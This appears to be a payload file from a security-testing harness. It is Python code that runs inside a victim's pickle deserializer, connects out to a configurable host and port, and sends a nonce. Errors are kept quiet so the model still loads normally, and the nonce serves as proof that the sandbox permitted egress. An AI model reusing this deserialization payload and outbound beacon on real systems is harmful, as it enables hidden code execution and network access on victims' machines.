"""Payload (builtins.exec gadget): a reverse-shell beacon. Connects out to
PARAMS["host"]:PARAMS["port"] over TCP and sends PARAMS["nonce"] + "\n", which the harness's
listener records as proof that the sandbox let the connection out.

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import socket
import sys

try:
    # Bounded wait: a dropped SYN must not stall the model load for the kernel's full retry time.
    with socket.create_connection((PARAMS["host"], int(PARAMS["port"])),
                                  timeout=float(PARAMS.get("timeout_seconds", 5))) as beacon:
        beacon.sendall((PARAMS["nonce"] + "\n").encode())
except Exception as error:
    print(f"reverse_connect: {type(error).__name__}: {error}", file=sys.stderr)
